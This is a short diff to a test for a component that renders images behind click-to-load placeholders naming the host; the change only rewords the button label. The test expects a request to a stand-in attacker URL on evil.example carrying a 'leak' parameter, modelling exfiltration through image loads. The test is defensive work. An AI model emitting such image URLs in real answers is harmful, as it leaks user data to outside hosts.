@@ -98,7 +98,7 @@ describe('R6.1: images', () => {
 
   test('a placeholder names the host, and the reader decides', async () => {
     const { container } = render(<Answer text={IMAGES} />);
-    const buttons = screen.getAllByRole('button', { name: 'Show the image from evil.example' });
+    const buttons = screen.getAllByRole('button', { name: 'Show image from evil.example' });
     expect(buttons).toHaveLength(3);
     await userEvent.click(buttons[0] as HTMLElement);
     expect(requestsOf(container)).toContain('https://evil.example/p.png?leak=abc');
